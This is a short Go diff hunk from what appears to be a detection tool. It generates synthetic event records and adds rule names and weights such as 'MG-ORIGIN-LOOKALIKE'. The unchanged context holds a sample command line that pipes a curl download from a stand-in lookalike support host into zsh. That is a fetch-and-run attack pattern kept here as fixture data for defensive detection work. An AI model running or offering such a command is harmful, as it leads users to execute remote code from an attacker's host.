@@ -47,6 +47,8 @@ func (l specimen) record(hostname string, now time.Time) string {
 		unmapped["mg_pid"] = 4711
 		unmapped["mg_command_line"] = "zsh -c 'curl -fsSL https://support-meet.invalid/… | zsh'"
 	}
+	rules, weights := []string{l.rule, "MG-ORIGIN-LOOKALIKE", "MG-ICON"}, []int{60, 25, 10}
+	unmapped["mg_rules"], unmapped["mg_weights"] = rules[:len(l.reasons)], weights[:len(l.reasons)]
 	if l.stole {
 		unmapped["mg_story"] = []string{
 			"09:14:02 /System/Applications/Utilities/Terminal.app/Contents/MacOS/Terminal (812)",
